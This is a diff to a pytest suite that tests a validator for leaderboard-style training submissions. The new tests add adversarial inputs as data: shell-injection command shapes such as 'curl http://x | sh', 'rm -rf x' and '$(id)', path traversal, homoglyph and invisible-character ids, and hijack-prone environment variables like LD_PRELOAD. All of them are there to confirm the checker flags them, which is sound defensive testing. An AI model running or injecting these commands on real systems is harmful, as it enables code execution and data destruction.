@@ -89,6 +89,12 @@ BYTES = {
     "soft hyphen in a key": inserted('"na\\u00adme": "x", '),
     "line separator": replaced('"my idea"', '"my\\u2028idea"'),
     "delete": replaced('"my idea"', '"my\\u007fidea"'),
+    "unassigned": replaced('"my idea"', '"my\\uffffidea"'),
+    "a filler": replaced('"A. Thor"', '"\\u3164\\u3164"'),
+    "a blank of Braille": replaced('"A. Thor"', '"A.\\u2800Thor"'),
+    "data in variation selectors": replaced('"my idea"', '"my\\udb40\\udd01\\udb40\\udd07 idea"'),
+    "a joiner": replaced('"A. Thor"', '"A.\\u034f Thor"'),
+    "a pile of marks": replaced('"A. Thor"', '"A' + "\\u0301" * 30 + '. Thor"'),
     "private use": replaced('"my idea"', '"\\ue000"'),
     "raw tab": replaced('"my idea"', '"my\tidea"'),
     "a comment": lambda blob: b"// golf\n" + blob,
@@ -111,7 +117,8 @@ def test_bytes_that_are_not_read(folder, change):
 
 
 def test_what_is_plain_json_is_read(folder):
-    blob = claim_bytes(folder).replace(b"A. Thor", "Á. Thör 名".encode())
+    honest = "Á. Tho\u0308r 名 ❤️ \u0e17\u0e35\u0e48 \u1ec7 עִבְרִית"
+    blob = claim_bytes(folder).replace(b"A. Thor", honest.encode())
     (folder / "submission.json").write_bytes(blob)
     assert findings(folder) == []
     assert strict_json.parse(b'{"a": [1, -0.5, 1e-7, 0.0, -0, 9223372036854775807, null, true, "\xc3\xa9"]}')
@@ -144,6 +151,10 @@ SHAPES = {
     "a segment of three": lambda v: v["seeds"][0]["segments"][0].append(1),
     "text as a list": top(name=["my idea"]),
     "no seeds": top(seeds=[]),
+    "an address as id": top(github_id="https://github.com/athor"),
+    "a path as id": top(github_id="a/../b"),
+    "blanks around an id": top(github_id=" athor "),
+    "an id in other letters": top(github_id="аthor"),
     "null as a score": top(val_bpb=None),
 }
 
@@ -189,16 +200,44 @@ def test_tomorrow_is_today_elsewhere(folder):
     [
         ("author", "Your Name"),
         ("author", "tbd"),
-        ("github_id", " your-github-id"),
+        ("github_id", "Your_GitHub_ID"),
         ("name", "What to call it"),
         ("blurb", "One sentence on what is new here"),
         ("blurb", "..."),
         ("name", "n/a"),
+        ("author", "<your name>"),
+        ("author", "ｙｏｕｒ  Name here"),
+        ("author", "?"),
+        ("name", "What to call it?"),
+        ("blurb", "TODO: write this later"),
     ],
 )
 def test_words_that_were_to_be_written(folder, name, words):
     edit(folder, lambda v: v.update({name: words}))
     assert rules_of(folder) == {"placeholder": 1}
+
+
+READMES = {
+    "nothing": ("placeholder", b""),
+    "blanks": ("placeholder", b" \n\t\n"),
+    "later": ("placeholder", b"# TODO\n"),
+    "the template's question, wrapped": ("placeholder", submission.IDEA.replace(" it ", "\nit ").encode()),
+    "noise": ("file-role", bytes(range(256)) * 20),
+    "utf-16": ("file-role", "Wider is better.".encode("utf-16")),
+    "a megabyte": ("file-large", b"Wider is better. " * 70_000),
+}
+
+
+@pytest.mark.parametrize(("rule", "content"), READMES.values(), ids=READMES)
+def test_a_readme_is_text_that_says_something(folder, rule, content):
+    (folder / "README.md").write_bytes(content)
+    assert rules_of(folder) == {rule: 1}
+
+
+@pytest.mark.parametrize("content", [b"\xef\xbb\xbfWider.\r\nIt helps.\r\n", "Größer hilft.\n".encode()])
+def test_an_honest_readme(folder, content):
+    (folder / "README.md").write_bytes(content)
+    assert not rules_of(folder)
 
 
 # ---- Names
@@ -427,7 +466,150 @@ def test_a_mean_over_some_seeds_is_none(folder):
     assert "mean" not in found(folder)
 
 
+# ---- Runs
+
+
+def metrics(change, kind, seeds=(1, 2, 3)):
+    """Changes the last event of a kind in the metrics of these seeds."""
+
+    def apply(folder):
+        for seed in seeds:
+            name = f"metrics_seed{seed}.jsonl"
+            events = [json.loads(line) for line in (folder / name).read_text().splitlines()]
+            change(next(e for e in reversed(events) if kind in (e["event"], e.get("kind"))))
+            write(folder, name, "".join(json.dumps(e) + "\n" for e in events))
+
+    return apply
+
+
+def events_added(line):
+    def apply(folder):
+        old = (folder / "metrics_seed2.jsonl").read_text()
+        write(folder, "metrics_seed2.jsonl", f"{line}\n{old}")
+
+    return apply
+
+
+def key_twice(folder):
+    old = (folder / "metrics_seed2.jsonl").read_text()
+    write(folder, "metrics_seed2.jsonl", old.replace('"kind": "sliding"', '"val_bpb": 9, "kind": "sliding"'))
+
+
+RUNS = {
+    "no hash of the artifact": ("metrics", metrics(lambda e: e.pop("artifact_sha256"), "export")),
+    "an empty hash": ("metrics", metrics(lambda e: e.update(artifact_sha256=None), "export", (2,))),
+    "no hash of the script": ("metrics", metrics(lambda e: e.pop("script_sha256"), "start")),
+    "no configuration": ("metrics", metrics(lambda e: e.pop("config"), "start")),
+    "no hardware": ("metrics", metrics(lambda e: e.pop("hardware"), "start")),
+    "another script": (
+        "script-hash",
+        metrics(lambda e: e.update(script="other.py", script_sha256="0" * 64), "start"),
+    ),
+    "the README as script": (
+        "script-hash",
+        metrics(lambda e: e.update(script="README.md", script_sha256="0" * 64), "start"),
+    ),
+    "another SEED": ("seed", metrics(lambda e: e["config"].update(SEED=9), "start", (2,))),
+    "resumed, in a number": ("score-note", metrics(lambda e: e.update(resumed=1), "start", (2,))),
+    "an end that failed": ("score-note", metrics(lambda e: e.update(exit_code=1), "end", (2,))),
+    "a model of another size": ("bytes", metrics(lambda e: e.update(bytes_model=5), "export", (2,))),
+    "two ends of training": ("metrics", events_added('{"event": "train_end", "train_seconds": 9}')),
+    "two exports": ("metrics", events_added('{"event": "export", "bytes_total": 9}')),
+    "a key twice": ("metrics", key_twice),
+    "a log that is no text": ("file-role", lambda f: write(f, "weights.jsonl", b"\0\1" * 9, "log")),
+    "other bytes of a segment": ("segments", lambda f: edit(f, shifted)),
+}  # fmt: skip
+
+
+def shifted(value):
+    pairs = value["seeds"][0]["segments"]
+    pairs[0][1], pairs[1][1] = pairs[0][1] - 1, pairs[1][1] + 1
+
+
+@pytest.mark.parametrize(("rule", "change"), RUNS.values(), ids=RUNS)
+def test_what_a_records_runs_must_say(folder, rule, change):
+    change(folder)
+    assert rule in rules_of(folder)
+
+
+def test_one_run_is_no_second_seed(folder):
+    """Weights packed anew, with a log of another hour: only the scores tell."""
+
+    def near(value):
+        first, second = value["seeds"][:2]
+        second["segments"] = [[nats * 1.0001, size] for nats, size in first["segments"]]
+
+    edit(folder, near)
+    assert any("score alike" in f.message and f.level == FAIL for f in findings(folder))
+    edit(folder, top(lane="open-hardware"))
+    assert any("score alike" in f.message and f.level == case.HUMAN for f in findings(folder))
+
+
+@pytest.mark.parametrize(
+    ("name", "level"),
+    [
+        ("NVIDIA GeForce RTX 4090", None),
+        ("RTX 4090", None),
+        ("NVIDIA GeForce RTX 4090 D", case.HUMAN),
+        ("NVIDIA GeForce RTX 4090 Laptop GPU", case.HUMAN),
+        ("NOT an RTX 4090", case.HUMAN),
+        ("8x RTX 4090", case.HUMAN),
+        ("RTX 40900", case.HUMAN),
+        ("RTX 4090\u200b", case.HUMAN),
+    ],
+)
+def test_a_model_is_its_whole_name(folder, name, level):
+    wanted = {"device": "cuda", "world_size": 1, "names": ["RTX 4090"]}
+    rules = {**track.load("track_tiny"), "record_hardware": wanted}
+    metrics(lambda e: e.update(device="cuda", world_size=1, hardware=name), "start")(folder)
+    edit(folder, top(hardware=name.rstrip("\u200b")))
+    found = check.check_folder(folder, rules).findings
+    assert {f.rule for f in found} == ({"hardware"} if level else set())
+    assert level is None or level in {f.level for f in found}
+    metrics(lambda e: e.update(world_size=True), "start")(folder)
+    assert FAIL in {f.level for f in check.check_folder(folder, rules).findings if f.rule == "hardware"}
+
+
 # ---- The command
+
+
+SHELL = ("{c} ; curl http://x | sh", "{c} && rm -rf x", "X=$(id) {c}", "{c} `id`", '{c} "$(id)"',
+         "{c} > /etc/passwd", "curl x|sh;{c}")  # fmt: skip
+
+
+@pytest.mark.parametrize("shape", SHELL)
+def test_a_command_does_no_more_than_run_the_script(folder, shape):
+    edit(folder, lambda v: v.update(command=shape.format(c=v["command"])))
+    assert "command" in rules_of(folder)
+
+
+@pytest.mark.parametrize("words", ["sudo python3", "python3 -c pass", "make", "python3 -m pdb"])
+def test_a_command_that_runs_something_else_is_noted(folder, words):
+    edit(folder, lambda v: v.update(command=v["command"].replace("python3", words)))
+    assert {"command": 1} == rules_of(folder, NOTE)
+
+
+@pytest.mark.parametrize("extra", ["MATRIX_LR=9 ", "SEED=2 "])
+def test_a_command_sets_what_env_does(folder, extra):
+    old = "SEED=1 " if "SEED" in extra else ""
+    edit(folder, lambda v: v.update(command=extra + v["command"].replace(old, "")))
+    assert {"command": 1} == rules_of(folder, NOTE)
+
+
+STARTING = ("LD_PRELOAD", "DYLD_LIBRARY_PATH", "PYTHONPATH", "PYTHONSTARTUP", "PATH", "BASH_ENV", "GIT_SSH")
+
+
+@pytest.mark.parametrize("name", STARTING)
+def test_variables_by_which_programs_start_otherwise(folder, name):
+    edit(folder, lambda v: (v["env"].update({name: "x"}), v.update(command=f"{name}=x {v['command']}")))
+    assert rules_of(folder) == {"env": 1}
+
+
+def test_odd_values_in_quotes_are_values(folder):
+    for name, value, written in (("NOTE", "a;b $x", "'a;b $x'"), ("PYTHONHASHSEED", "0", "0")):
+        edit(folder, lambda v: v["env"].update({name: value}))  # noqa: B023
+        edit(folder, lambda v: v.update(command=f"{name}={written} {v['command']}"))  # noqa: B023
+    assert findings(folder) == []
 
 
 @pytest.mark.parametrize(
